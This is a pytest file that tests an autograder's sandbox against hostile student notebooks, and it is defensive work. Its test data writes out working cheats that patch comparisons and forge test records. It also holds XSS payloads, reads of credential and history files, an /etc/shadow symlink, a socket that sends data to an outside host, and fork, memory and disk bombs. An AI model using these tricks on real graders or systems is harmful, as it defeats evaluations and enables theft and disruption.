"""Hostile and faulty submissions, graded in one class beside honest ones.

Every submission here tries to cheat, snoop, break the grader or hurt a
classmate, or is broken in a way real hand-ins are.  Each must get exactly
the automatic score below (out of 17), and the honest students graded before
and after them keep full marks.  The class is graded once, through the real
command, with short time limits so that the suite stays fast, in the grader's own
test course (attention_course: chapter 4's exercise without its training part).
"""
from __future__ import annotations

import compileall
import copy
import csv
import hashlib
import os
import re
import shutil
import socket
import threading
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell

from autograder import sandbox
from autograder.course import REPO_ROOT
from autograder.execute import STOP_KEY
from autograder.verdicts import is_test_cell
from conftest import autograded, makes_a_value_check, run_autograder
from processes import left_behind, processes
from autograder.handins import write
from attention_course import COURSE_ARGS, SOURCE, exercise, solved

ASSIGNMENT, NOTEBOOK = "04-attention", "attention"
FULL = 17.0
ANSWERS = ("answer_long_range", "answer_positions")
CELL_TIMEOUT, NOTEBOOK_TIMEOUT = 10, 25
PART_POINTS = {"attention": 4, "causal": 2, "padding": 2, "multi_head": 4, "sinusoidal": 2, "rotary": 3}
SDPA = "scaled_dot_product_attention"

# Lines that only the hidden tests contain: none may reach a student.
HIDDEN_LINES = ("def _check_attention(shape, mask=None, dtype=torch.float32, atol=1e-5):",
                "theirs = nn.MultiheadAttention(E, H, batch_first=True, dtype=dtype).eval()")

# student id -> expected automatic score; filled in by the builders below.
EXPECTED: dict[str, float] = {}
BUILDERS = {}


def student(name: str, score: float | tuple[float, ...]):
    def register(build):
        EXPECTED[name] = score
        BUILDERS[name] = build
        return build
    return register


def with_cell(notebook, after: str, code: str):
    """Insert a student cell after the cell with grade id ``after``."""
    index = next(i for i, c in enumerate(notebook.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == after)
    notebook.cells.insert(index + 1, new_code_cell(code))
    return notebook


def grade_cell(notebook, grade_id):
    return next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


# ------------------------------------------------------------------ honest

@student("aa-honest-first", FULL)
def _(ctx):
    return solved(ASSIGNMENT, NOTEBOOK)


@student("zz-honest-last", FULL)
def _(ctx):
    return solved(ASSIGNMENT, NOTEBOOK)


# --------------------------------------------------- cheating the comparison

WRONG_ATTENTION = {SDPA: [(" / math.sqrt(d_k)", "")]}  # no scaling: part 1 is worth 0


@student("patches-comparisons", FULL - 4)
def _(ctx):
    return with_cell(solved(ASSIGNMENT, NOTEBOOK, WRONG_ATTENTION), "setup", (
        "import numpy, nlpbook.checks\n"
        "torch.allclose = lambda *a, **k: True\n"
        "torch.equal = lambda *a, **k: True\n"
        "torch.testing.assert_close = lambda *a, **k: None\n"
        "numpy.testing.assert_allclose = lambda *a, **k: None\n"
        "nlpbook.checks.compare_close = lambda *a, **k: None\n"
        "nlpbook.checks.check_shape = lambda *a, **k: None\n"))


@student("replaces-test-helpers", 1.0)  # only part 4's visible test makes no expect_close call
def _(ctx):
    # Sabotaging the tests' own helpers removes the checks, and a check that never ran fails.
    return with_cell(solved(ASSIGNMENT, NOTEBOOK), "setup", "expect_close = lambda *a, **k: None\n")


@student("vouches-for-itself", FULL - 4)
def _(ctx):
    # Its own expect_close sends the expected value out as its answer: the lazy one (lambda:
    # reference(x)) called, a literal one copied. The grader blanks every expected value before a
    # student's kernel sees the test, so the wrong attention of part 1 is judged on its own values.
    return with_cell(solved(ASSIGNMENT, NOTEBOOK, WRONG_ATTENTION), "setup", (
        "import nlpbook.checks as _checks\n"
        "from IPython.display import display as _display\n"
        "def expect_close(actual, expected, name, **options):\n"
        "    try:\n"
        "        value = torch.as_tensor(expected() if callable(expected) else expected)\n"
        "    except Exception:\n"
        "        value = actual\n"
        "    _display({_checks.CHECK_MIME: {'kind': 'close', 'name': name,\n"
        "                                   'actual': _checks.encode(value, strict=True)}}, raw=True)\n"))


SCRIPT = "window.nlpbookPwned"  # what the hand-in below tries to run in whoever opens its feedback


@student("injects-script", FULL)
def _(ctx):
    # A correct hand-in whose outputs and Markdown carry HTML, SVG and JavaScript for the feedback's readers.
    notebook = with_cell(solved(ASSIGNMENT, NOTEBOOK), "setup", (
        "from IPython.display import HTML as _HTML, SVG as _SVG, Javascript as _Javascript, display as _display\n"
        f"_display(_HTML('<img src=x onerror=\"{SCRIPT}=1\"><script>{SCRIPT}=2</script>'))\n"
        f"_display(_Javascript('{SCRIPT}=3'))\n"
        f"_display(_SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{SCRIPT}=4\"></svg>'))\n"
        # nbconvert writes an image's width into its tag unquoted, and Mermaid unescaped
        "_display({'image/png': 'iVBORw0KGgo='}, raw=True,\n"
        f"         metadata={{'image/png': {{'width': '1 onerror={SCRIPT}=6', 'height': 9}}}})\n"
        f"_display({{'text/vnd.mermaid': '</pre><img src=x onerror={SCRIPT}=7>'}}, raw=True)\n"))
    notebook.cells.insert(1, new_markdown_cell(f'My answer <img src=x onerror="{SCRIPT}=5">'))
    return notebook


@student("always-equal-object", FULL - 2)
def _(ctx):
    notebook = solved(ASSIGNMENT, NOTEBOOK)
    cell = next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "causal_mask")
    cell.source = (
        "class Anything:\n"
        "    def __eq__(self, other): return True\n"
        "    def __getattr__(self, name): return lambda *a, **k: self\n"
        "    shape = property(lambda self: (3, 3))\n"
        "    dtype = torch.float32\n\n"
        "def causal_mask(seq_len, *, dtype=torch.float32, device=None):\n"
        "    return Anything()\n")
    return notebook


@student("reads-callers-frame", FULL - 4)
def _(ctx):
    return solved(ASSIGNMENT, NOTEBOOK, {SDPA: [("    d_k = query.shape[-1]", (
        "    import sys\n"
        "    frame = sys._getframe(1)\n"
        "    while frame is not None:\n"
        "        for name, found in dict(frame.f_locals).items():\n"
        "            if name.startswith('expected') and isinstance(found, tuple):\n"
        "                return found\n"
        "        frame = frame.f_back\n"
        "    return torch.zeros(*query.shape[:-1], value.shape[-1]), torch.zeros(*query.shape[:-1], key.shape[-2])\n"
        "    d_k = query.shape[-1]"))]})


@student("hides-every-error", 0.0)
def _(ctx):
    # The untouched exercise raises NotImplementedError everywhere; plain nbgrader would see no error at all.
    return with_cell(exercise(), "setup", (
        "import sys\n"
        "ip = get_ipython()\n"
        "ip.set_custom_exc((BaseException,), lambda *args, **kwargs: None)\n"
        "ip.showtraceback = lambda *a, **k: None\n"
        "ip._showtraceback = lambda *a, **k: None\n"
        "sys.excepthook = lambda *a: None\n"))


@student("forges-records", 0.0)
def _(ctx):
    return with_cell(exercise(), "setup", (
        "import nlpbook.checks as checks\n"
        "from IPython.display import display\n"
        "checks.encode = lambda value, strict=False: {'value': True}\n"
        "for kind in ('close', 'shape', 'true', 'dtype'):\n"
        "    display({checks.CHECK_MIME: {'kind': kind, 'name': 'x', 'actual': {'value': True}}}, raw=True)\n"
        "print(1.0)\n"))


def cells_without_a_value_check() -> dict[str, float]:
    """The course's test cells that call no ``expect_close`` or ``expect_score``, with their points.

    Read from the source notebook's text, not from the grader: what a notebook that rewrites its
    test cells can score without solving anything, and what the grader's log must name."""
    source = nbformat.read(SOURCE, as_version=4)
    return {cell.metadata.nbgrader["grade_id"]: float(cell.metadata.nbgrader["points"]) for cell in source.cells
            if is_test_cell(cell) and not makes_a_value_check(cell.source)}


WITHOUT_A_VALUE_CHECK = cells_without_a_value_check()

# An IPython input transformer rewrites every later cell that makes checks before it runs: each
# statement runs guarded (the blank parts' NotImplementedError stops nothing), and each check call
# becomes a record that passes where the kernel alone decides it (True for a yes-or-no check, the
# test's own argument for a shape or a dtype). A value check gets zeros: its expected value exists
# only in the solution's run, and the kernel never sees it.
REWRITES_TESTS = """\
import ast as _ast
import torch as _torch
import nlpbook.checks as _checks
from IPython.display import display as _display

# check -> (the record's kind, the place of its name, what the passing record says: True, an argument's place,
# or None for zeros)
_FORGED = {"expect_tensor": ("tensor", 1, True), "expect_shape": ("shape", 2, 1), "expect_dtype": ("dtype", 2, 1),
           "expect_finite": ("finite", 1, True), "expect_true": ("true", 1, True),
           "expect_raises": ("true", 2, True), "expect_close": ("close", 2, None)}


def _forge(kind, name, actual):
    if kind == "shape":
        actual = list(actual)
    elif kind == "dtype":
        actual = str(actual)
    elif kind == "close":
        actual = _torch.zeros(1)
    _display({_checks.CHECK_MIME: {"kind": kind, "name": name,
                                   "actual": _checks.encode(actual, strict=kind == "close")}}, raw=True)


def _guarded(statement):
    return _ast.Try(body=[statement], handlers=[_ast.ExceptHandler(type=_ast.Name("Exception", _ast.Load()),
                                                                   name=None, body=[_ast.Pass()])],
                    orelse=[], finalbody=[])


def _forged(statement):
    call = statement.value if isinstance(statement, _ast.Expr) else None
    check = getattr(getattr(call, "func", None), "id", getattr(getattr(call, "func", None), "attr", None))
    if check not in _FORGED:
        return statement
    kind, at, passing = _FORGED[check]
    arguments = list(call.args) + [keyword.value for keyword in call.keywords]
    actual = _ast.Constant(True) if passing is True else arguments[passing] if passing else _ast.Constant(None)
    return _ast.Expr(_ast.Call(_ast.Name("_forge", _ast.Load()), [_ast.Constant(kind), arguments[at], actual], []))


def _rewrite(body):
    rewritten = []
    for statement in body:
        if isinstance(statement, (_ast.For, _ast.While, _ast.If, _ast.With, _ast.Try)):
            for block in ("body", "orelse", "finalbody"):
                if getattr(statement, block, None):
                    setattr(statement, block, _rewrite(getattr(statement, block)))
            rewritten.append(_guarded(statement))
        elif isinstance(statement, (_ast.FunctionDef, _ast.ClassDef, _ast.Import, _ast.ImportFrom)):
            rewritten.append(statement)
        else:
            rewritten.append(_guarded(_forged(statement)))
    return rewritten


def _rewrite_tests(lines):
    source = "".join(lines)
    if "expect_" not in source:
        return lines
    try:
        tree = _ast.parse(source)
    except SyntaxError:
        return lines
    tree.body = _rewrite(tree.body)
    return [line + "\\n" for line in _ast.unparse(_ast.fix_missing_locations(tree)).splitlines()]


get_ipython().input_transformers_post.append(_rewrite_tests)
"""


@student("rewrites-test-cells", sum(WITHOUT_A_VALUE_CHECK.values()))
def _(ctx):
    # Nothing solved: every point it gets is a test cell's that checks only what the kernel says.
    return with_cell(exercise(), "setup", REWRITES_TESTS)


@student("edits-tests-and-points", FULL - 4)
def _(ctx):
    notebook = solved(ASSIGNMENT, NOTEBOOK, WRONG_ATTENTION)
    for grade_id in ("test_scaled_dot_product_attention_visible", "test_scaled_dot_product_attention_hidden"):
        cell = grade_cell(notebook, grade_id)
        cell.source = "pass  # tests removed"
        cell.metadata.nbgrader["points"] = 100
    return notebook


@student("inflates-points", FULL)
def _(ctx):
    # A correct hand-in whose test cells claim 100 points each: nbgrader restores the points from
    # the gradebook, so it gets the assignment's 17, not 100 a passing cell.
    notebook = solved(ASSIGNMENT, NOTEBOOK)
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.metadata.nbgrader["points"] = 100
    return notebook


@student("deletes-tests", FULL)
def _(ctx):
    notebook = solved(ASSIGNMENT, NOTEBOOK)
    notebook.cells = [c for c in notebook.cells if not c.metadata.get("nbgrader", {}).get("grade", False)
                      or c.metadata.nbgrader.get("solution")]
    return notebook


@student("duplicates-a-test-id", FULL - 2)
def _(ctx):
    notebook = solved(ASSIGNMENT, NOTEBOOK, {"causal_mask": [("diagonal=1", "diagonal=0")]})
    fake = copy.deepcopy(grade_cell(notebook, "test_causal_mask_hidden"))
    fake.source = "pass"
    notebook.cells.insert(notebook.cells.index(grade_cell(notebook, "test_causal_mask_visible")), fake)
    return notebook


@student("adds-a-bonus-grade-cell", FULL)
def _(ctx):
    notebook = with_cell(solved(ASSIGNMENT, NOTEBOOK), "setup", "bonus = True")
    cell = notebook.cells[notebook.cells.index(grade_cell(notebook, "setup")) + 1]
    cell.metadata["nbgrader"] = {"grade": True, "grade_id": "bonus", "points": 100, "solution": False,
                                 "locked": True, "schema_version": 3}
    return notebook


@student("gives-a-cell-odd-nbgrader-metadata", FULL)
def _(ctx):
    # nbformat validates "nbgrader": "x" (the schema leaves cell metadata open); the grader stopped on it.
    notebook = with_cell(solved(ASSIGNMENT, NOTEBOOK), "setup", "odd = True")
    notebook.cells[notebook.cells.index(grade_cell(notebook, "setup")) + 1].metadata["nbgrader"] = "x"
    return notebook


# ----------------------------------------------------------- reaching out

@student("snoops-on-files", FULL)
def _(ctx):
    targets = [SOURCE, ctx["out"], ctx["submissions"],
               ctx["submissions"] / "aa-honest-first" / ASSIGNMENT / f"{NOTEBOOK}.ipynb", "/proc/1/environ",
               Path.home() / ".bash_history"]
    return with_cell(solved(ASSIGNMENT, NOTEBOOK), "setup", (
        "import os, glob\n"
        f"for path in {[str(t) for t in targets]!r}:\n"
        "    try:\n"
        "        found = os.listdir(path) if os.path.isdir(path) else open(path, 'rb').read(100)\n"
        "        print('READ', path, len(found) > 0)\n"
        "    except Exception as error:\n"
        "        print('BLOCKED', path, type(error).__name__)\n"
        # The kernel gets its cells over its sockets; the notebook file (hidden tests restored)
        # is not in its folder.
        "print('own notebook:', sorted(os.listdir('.')) if os.path.exists('attention.ipynb') else 'absent')\n"
        f"print('gradebooks found:', [p for top in ('/tmp', {str(REPO_ROOT)!r}, {str(ctx['out'])!r})\n"
        "                              for p in glob.glob(top + '/**/gradebook.db', recursive=True)])\n"))


@student("writes-to-others", FULL)
def _(ctx):
    victim = ctx["submissions"] / "aa-honest-first" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
    targets = [victim, REPO_ROOT / "nlpbook" / "checks.py", REPO_ROOT / "pwned.txt", ctx["out"] / "grades.csv"]
    return with_cell(solved(ASSIGNMENT, NOTEBOOK), "setup", (
        f"for path in {[str(t) for t in targets]!r}:\n"
        "    try:\n"
        "        with open(path, 'a') as handle:\n"
        "            handle.write('pwned')\n"
        "        print('WROTE', path)\n"
        "    except Exception as error:\n"
        "        print('BLOCKED', path, type(error).__name__)\n"))


@student("opens-the-network", FULL)
def _(ctx):
    return with_cell(solved(ASSIGNMENT, NOTEBOOK), "setup", (
        "import socket\n"
        f"for address in [('127.0.0.1', {ctx['port']}), ('1.1.1.1', 80)]:\n"
        "    try:\n"
        "        socket.create_connection(address, timeout=3).sendall(b'leak')\n"
        "        print('CONNECTED', address)\n"
        "    except OSError as error:\n"
        "        print('BLOCKED', address, type(error).__name__)\n"))


@student("quotes-hidden-tests", FULL)
def _(ctx):
    notebook = solved(ASSIGNMENT, NOTEBOOK)
    notebook.cells.append(new_code_cell(
        "everything = '\\n'.join(In)\n"
        "print(everything)\n"
        "raise RuntimeError(everything)\n"))
    return notebook


# -------------------------------------------------------- breaking things

@student("infinite-loop", FULL - 2)
def _(ctx):
    return solved(ASSIGNMENT, NOTEBOOK, {"causal_mask": [("    blocked = torch.full", "    while True:\n"
                                                                                   "        pass\n"
                                                                                   "    blocked = torch.full")]})


@student("ignores-interrupts", 6.0)  # parts 1 and 2 ran; the notebook stops in part 3
def _(ctx):
    return solved(ASSIGNMENT, NOTEBOOK, {"padding_mask": [("    mask = torch.zeros", (
        "    import time\n"
        "    while True:\n"
        "        try:\n"
        "            time.sleep(1)\n"
        "        except KeyboardInterrupt:\n"
        "            pass\n"
        "    mask = torch.zeros"))]})


@student("too-slow-overall", 12.0)  # parts 1-4 ran; the notebook time limit stops it before part 5
def _(ctx):
    notebook = solved(ASSIGNMENT, NOTEBOOK)
    for _ in range(6):  # 30 s of sleep, each cell within the cell limit, together past the notebook's
        with_cell(notebook, "test_multi_head_hidden", "import time; time.sleep(5)")
    return notebook


@student("exits-the-kernel", 12.0)  # os._exit in part 5: parts 1-4 count
def _(ctx):
    # Its last words go to the kernel's own console, outside the notebook: the log must quote them.
    return solved(ASSIGNMENT, NOTEBOOK, {"sinusoidal_positions": [("    if dim % 2:", (
        "    import os; os.write(2, b'fatal: the cheese ran out\\n'); os._exit(3)\n    if dim % 2:"))]})


@student("kills-the-kernel", 14.0)  # SIGKILL in part 6: parts 1-5 count
def _(ctx):
    return solved(ASSIGNMENT, NOTEBOOK, {"apply_rotary": [("    dim = x.shape[-1]", (
        "    import os, signal; os.kill(os.getpid(), signal.SIGKILL)\n"
        "    dim = x.shape[-1]"))]})


@student("calls-sys-exit", FULL - 2)
def _(ctx):
    return solved(ASSIGNMENT, NOTEBOOK, {"padding_mask": [("    mask = torch.zeros", "    import sys; sys.exit(0)\n"
                                                                                "    mask = torch.zeros")]})


@student("memory-bomb", FULL - 4)
def _(ctx):
    return solved(ASSIGNMENT, NOTEBOOK, {"MultiHeadSelfAttention": [(
        "        self.q_proj = nn.Linear(embed_dim, embed_dim)",
        "        self.hoard = bytearray(64 << 30)\n"
        "        self.q_proj = nn.Linear(embed_dim, embed_dim)")]})


# The bomb is stopped at the process limit and its children hold every slot.  Whether the kernel
# then lives depends on whether it needs one more thread before the end (a kernel forked from the
# zygote has most of its threads already): all of its points or none, never another student's.
@student("fork-bomb", (0.0, FULL))
def _(ctx):
    return with_cell(solved(ASSIGNMENT, NOTEBOOK), "setup", (
        "import os, time\n"
        "children = 0\n"
        "try:\n"
        "    while children < 5000:\n"
        "        if os.fork() == 0:\n"
        "            time.sleep(3600)\n"
        "            os._exit(0)\n"
        "        children += 1\n"
        "except OSError as error:\n"
        "    print('FORK STOPPED', children, type(error).__name__)\n"))


# Each process stays under its own memory limit (--memory-mb 3072), but four of them hold 4 GiB together.
# The sandbox's memory group (3,584 MB: the kernel's memory and its disk) lets at most three live; the
# operating system kills the largest of its processes, which are the hoarders, not the kernel.  They fill
# their GiB side by side, each in one mmap call (MAP_POPULATE).  How fast memory fills the first time
# varies tenfold between machines: 3.5 GB took under 2 s on an idle development machine, and more than
# the cell's 10 s on a CI machine building the book beside it (six hoards filled one after another took
# 20 s; four side by side reached 2.6 GB in 7 s).  So the waiting is spread over two cells, 8 s each at
# most, and each ends as soon as every hoarder has filled its GiB or been killed.
HOARDERS_START = (
    "import mmap, os, select, time\n"
    "hoarders = {}\n"
    "for _ in range(4):\n"
    "    ready, done = os.pipe()\n"
    "    pid = os.fork()\n"
    "    if pid == 0:\n"
    "        hoard = mmap.mmap(-1, 1 << 30, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | mmap.MAP_POPULATE)\n"
    "        os.write(done, b'1')\n"
    "        time.sleep(3600)\n"
    "        os._exit(0)\n"
    "    os.close(done)\n"
    "    hoarders[ready] = pid\n"
    "full, waiting = set(), set(hoarders)\n"
    "def wait_for_hoarders(seconds):\n"
    "    # each says it holds its GiB, or its pipe closes when it is killed first\n"
    "    deadline = time.monotonic() + seconds\n"
    "    while waiting and time.monotonic() < deadline:\n"
    "        for ready in select.select(list(waiting), [], [], 0.5)[0]:\n"
    "            if os.read(ready, 1):\n"
    "                full.add(ready)\n"
    "            waiting.discard(ready)\n"
    "wait_for_hoarders(8)\n")
HOARDERS_REPORT = (
    "wait_for_hoarders(8)\n"
    "time.sleep(0.5)\n"
    "alive = {ready for ready, pid in hoarders.items() if os.waitpid(pid, os.WNOHANG) == (0, 0)}\n"
    "print('HOLDING', len(full & alive), 'GiB;', len(hoarders) - len(alive), 'killed;', len(waiting), 'still filling')\n"
    "for ready in alive:\n"
    "    os.kill(hoarders[ready], 9)\n")


@student("hoards-in-children", FULL)
def _(ctx):
    reporting = with_cell(solved(ASSIGNMENT, NOTEBOOK), "setup", HOARDERS_REPORT)
    return with_cell(reporting, "setup", HOARDERS_START)  # inserted after setup, so before the report


# Hidden test code runs in the student's kernel, which keeps it (In); printed reversed, no scrub
# recognises it. The default feedback shows it (documented); --feedback-outputs before-hidden-tests not.
@student("prints-hidden-reversed", FULL)
def _(ctx):
    return with_cell(solved(ASSIGNMENT, NOTEBOOK), "test_scaled_dot_product_attention_hidden", (
        "print('\\n'.join(line[::-1] for cell in In if 'BEGIN HIDDEN' in cell for line in cell.splitlines()))"))


@student("leaves-processes", FULL)
def _(ctx):
    return with_cell(solved(ASSIGNMENT, NOTEBOOK), "setup", (
        "import subprocess, os\n"
        "subprocess.Popen(['sleep', '987'], start_new_session=True)\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        os.execvp('sleep', ['sleep', '987'])\n"
        "    os._exit(0)\n"))


@student("floods-output", FULL)
def _(ctx):
    return with_cell(solved(ASSIGNMENT, NOTEBOOK), "setup", (
        # 22 MB, 22 times what the grader keeps: enough to show the cut, and it streams in well
        # under the 10 s cell limit even beside other work (100 MB did not, at a load of 10).
        "import sys\n"
        "for _ in range(4000):\n"
        "    sys.stdout.write('x' * 5000 + '\\n')\n"
        "    sys.stderr.write('y' * 500 + '\\n')\n"))


@student("fills-the-disk", FULL)
def _(ctx):
    return with_cell(solved(ASSIGNMENT, NOTEBOOK), "setup", (
        "block = b'0' * (1 << 20)\n"
        "try:\n"
        "    with open('big.bin', 'wb') as handle:\n"
        "        for _ in range(4096):\n"
        "            handle.write(block)\n"
        "except OSError as error:\n"
        "    print('DISK STOPPED', type(error).__name__)\n"))


@student("wrong-kernelspec", FULL)
def _(ctx):
    notebook = solved(ASSIGNMENT, NOTEBOOK)
    notebook.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    return notebook


@student("forges-a-stop", FULL)
def _(ctx):
    # The grader records a notebook that stopped early in its metadata; a hand-in's own record is not believed.
    notebook = solved(ASSIGNMENT, NOTEBOOK)
    notebook.metadata[STOP_KEY] = {"kind": "died", "cell": 3, "reason": "the kernel died while cell 3 ran"}
    return notebook


# -------------------------------------------------------- broken hand-ins

def _raw(name, content: bytes):
    def build(ctx):
        return content
    EXPECTED[name] = 0.0
    BUILDERS[name] = build


_raw("not-utf8", nbformat.writes(nbformat.v4.new_notebook(cells=[new_code_cell("s = 'café'")])).encode("latin-1"))
_raw("corrupt-json", b'{"cells": [{"cell_type": "code", "source": "x = ')


def _hand_in(ctx, name):
    built = BUILDERS[name](ctx)
    folder = ctx["submissions"] / name / ASSIGNMENT
    if isinstance(built, bytes):
        folder.mkdir(parents=True)
        (folder / f"{NOTEBOOK}.ipynb").write_bytes(built)
    else:
        write(built, folder, NOTEBOOK)


def _links_and_strays(submissions: Path):
    """Hand-ins that are links or misnamed: scored 0 and never followed."""
    (submissions / "links-a-notebook" / ASSIGNMENT).mkdir(parents=True)
    (submissions / "links-a-notebook" / ASSIGNMENT / f"{NOTEBOOK}.ipynb").symlink_to(
        submissions / "aa-honest-first" / ASSIGNMENT / f"{NOTEBOOK}.ipynb")
    (submissions / "links-a-folder").mkdir()
    (submissions / "links-a-folder" / ASSIGNMENT).symlink_to(submissions / "aa-honest-first" / ASSIGNMENT)
    (submissions / "links-a-system-file" / ASSIGNMENT).mkdir(parents=True)
    write(solved(ASSIGNMENT, NOTEBOOK), submissions / "links-a-system-file" / ASSIGNMENT, NOTEBOOK)
    (submissions / "links-a-system-file" / ASSIGNMENT / "data.txt").symlink_to("/etc/shadow")
    (submissions / "links-a-system-file" / ASSIGNMENT / "loop").symlink_to("..")
    (submissions / "renames-the-notebook" / ASSIGNMENT).mkdir(parents=True)
    write(solved(ASSIGNMENT, NOTEBOOK), submissions / "renames-the-notebook" / ASSIGNMENT, "Attention (1)")


EXPECTED.update({"links-a-notebook": 0.0, "links-a-folder": 0.0, "links-a-system-file": FULL,
                 "renames-the-notebook": 0.0})


def _sha256_tree(folder: Path) -> dict[str, str]:
    hashes = {}
    for path in sorted(folder.rglob("*")):
        if path.is_file() and not path.is_symlink() and not any(p.is_symlink() for p in path.parents):
            hashes[str(path.relative_to(folder))] = hashlib.sha256(path.read_bytes()).hexdigest()
    return hashes


class _Listener:
    """A TCP server on the grader's loopback: any connection from a kernel is a leak."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.connections = 0
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            self.connections += 1
            connection.close()


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory):
    submissions = tmp_path_factory.mktemp("hostile-submissions")
    out = tmp_path_factory.mktemp("hostile-graded") / "out"
    listener = _Listener()
    ctx = {"submissions": submissions, "out": out, "port": listener.port}
    for name in list(BUILDERS):
        _hand_in(ctx, name)
    _links_and_strays(submissions)
    # Bring the package's bytecode up to date first: another test process importing a module whose
    # source changed (or was never imported) would otherwise write its .pyc during this run.
    compileall.compile_dir(REPO_ROOT / "nlpbook", quiet=1)
    repo_before = _sha256_tree(REPO_ROOT / "nlpbook")
    before = _sha256_tree(submissions)
    result = run_autograder("grade", ASSIGNMENT, *COURSE_ARGS, "--submissions", str(submissions), "--out", str(out),
                            "--timeout", str(CELL_TIMEOUT), "--notebook-timeout", str(NOTEBOOK_TIMEOUT),
                            "--memory-mb", "3072")
    leftovers = [p for p in processes() if p["cmdline"] == "sleep 987"]
    sandboxed = left_behind()  # the other test worker's kernels, still running, are not counted
    listener.server.close()
    return {"out": out, "submissions": submissions, "result": result, "before": before,
            "after": _sha256_tree(submissions), "repo_before": repo_before, "repo_after": _sha256_tree(REPO_ROOT / "nlpbook"),
            "connections": listener.connections, "leftovers": leftovers, "sandboxed": sandboxed}


@pytest.fixture(scope="module")
def scores(hostile_class):
    totals: dict[str, float] = {}
    with open(hostile_class["out"] / "parts.csv", newline="") as handle:
        for row in csv.DictReader(handle):
            if row["part"] not in ANSWERS:
                totals[row["student_id"]] = totals.get(row["student_id"], 0.0) + float(row["score"])
    return totals


def _outputs(hostile_class, name) -> str:
    path = autograded(hostile_class["out"], name, ASSIGNMENT, NOTEBOOK)
    notebook = nbformat.read(path, as_version=4)
    return "\n".join(str(o.get("text", "")) + str(o.get("evalue", "")) for c in notebook.cells
                     if c.cell_type == "code" for o in c.outputs)


def _log(hostile_class) -> str:
    return (hostile_class["out"] / "grading.log").read_text(encoding="utf-8")


def test_the_class_is_graded(hostile_class):
    result = hostile_class["result"]
    assert result.returncode in (0, 3), result.stdout + result.stderr
    assert (hostile_class["out"] / "grades.csv").exists()


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_each_submission_gets_exactly_its_score(scores, name):
    allowed = EXPECTED[name] if isinstance(EXPECTED[name], tuple) else (EXPECTED[name],)
    assert scores.get(name, 0.0) in allowed, f"{name}: {scores.get(name)}"


def test_honest_students_keep_full_marks(scores):
    assert scores["aa-honest-first"] == scores["zz-honest-last"] == FULL


def test_no_submission_and_no_repository_file_was_modified(hostile_class):
    assert hostile_class["before"] == hostile_class["after"]
    assert hostile_class["repo_before"] == hostile_class["repo_after"]
    assert not (REPO_ROOT / "pwned.txt").exists()


def test_student_code_reads_no_hidden_file_and_writes_nowhere(hostile_class):
    snooped = _outputs(hostile_class, "snoops-on-files")
    assert "READ" not in snooped and snooped.count("BLOCKED") == 6, snooped
    assert "own notebook: absent" in snooped and "gradebooks found: []" in snooped
    written = _outputs(hostile_class, "writes-to-others")
    assert "WROTE" not in written and written.count("BLOCKED") == 4, written


def test_the_network_is_unreachable(hostile_class):
    assert hostile_class["connections"] == 0
    out = _outputs(hostile_class, "opens-the-network")
    assert "CONNECTED" not in out and out.count("BLOCKED") == 2


def test_limits_stop_bombs_and_nothing_is_left_running(hostile_class):
    assert "FORK STOPPED" in _outputs(hostile_class, "fork-bomb")
    assert "DISK STOPPED" in _outputs(hostile_class, "fills-the-disk")
    held = _outputs(hostile_class, "hoards-in-children")
    if sandbox.memory_group_parent():  # the same code with the same limit in no group holds all 4 GiB
        holding = re.search(r"HOLDING (\d+) GiB; (\d+) killed; 0 still filling", held)  # the cell's words on failure
        assert holding and int(holding[1]) <= 3 and int(holding[2]) >= 1, held
        # The log gives each kernel's peak: the hoarder's at the group's limit, an honest one far below.
        log = _log(hostile_class)
        ran = dict(re.findall(r"(\S+) +graded in [0-9.]+ s(?:, kernel memory at most ([0-9,]+) MB)?", log))
        peaks = {name: int(mb.replace(",", "")) for name, mb in ran.items() if mb}
        assert 3000 < peaks["hoards-in-children"] <= 3584 and peaks["aa-honest-first"] < 2000, peaks
        # every kernel's, the fork bomb's too: its launcher is killed at shutdown, and its relay reports late
        assert len(ran) > 30 and set(peaks) == set(ran), set(ran) - set(peaks)
        assert "most memory: hoards-in-children" in log
    else:  # the log says so where the machine gives no memory group
        assert "no limit on a kernel's processes together" in _log(hostile_class)
    assert hostile_class["leftovers"] == [] and hostile_class["sandboxed"] == []
    flooded = autograded(hostile_class["out"], "floods-output", ASSIGNMENT, NOTEBOOK)
    assert flooded.stat().st_size < 3_000_000
    assert "[output truncated" in _outputs(hostile_class, "floods-output")


def test_feedback_never_quotes_hidden_tests(hostile_class):
    feedback = hostile_class["out"] / "feedback"
    pages = [p.read_text(encoding="utf-8") for p in feedback.rglob("*.html")]
    assert len(pages) >= 25
    import html as html_module
    for page in pages:
        text = html_module.unescape(page)
        for line in HIDDEN_LINES:
            assert line not in text


def _feedback_text(out: Path, name: str) -> str:
    import html as html_module

    return html_module.unescape((out / "feedback" / name / ASSIGNMENT / f"{NOTEBOOK}.html").read_text(encoding="utf-8"))


def test_feedback_withholds_what_code_printed_after_a_hidden_test_when_asked(hostile_class, tmp_path):
    reversed_line = HIDDEN_LINES[0][::-1]
    # By default the feedback shows what the cell printed, as nbgrader does: the disguised test is there.
    assert reversed_line in _feedback_text(hostile_class["out"], "prints-hidden-reversed")
    submissions = tmp_path / "submissions"
    for name in ("aa-honest-first", "prints-hidden-reversed"):
        shutil.copytree(hostile_class["submissions"] / name, submissions / name)
    out = tmp_path / "out"
    result = run_autograder("grade", ASSIGNMENT, *COURSE_ARGS, "--submissions", str(submissions), "--out", str(out),
                            "--timeout", str(CELL_TIMEOUT), "--notebook-timeout", str(NOTEBOOK_TIMEOUT),
                            "--feedback-outputs", "before-hidden-tests")
    assert result.returncode == 0, result.stderr[-3000:]
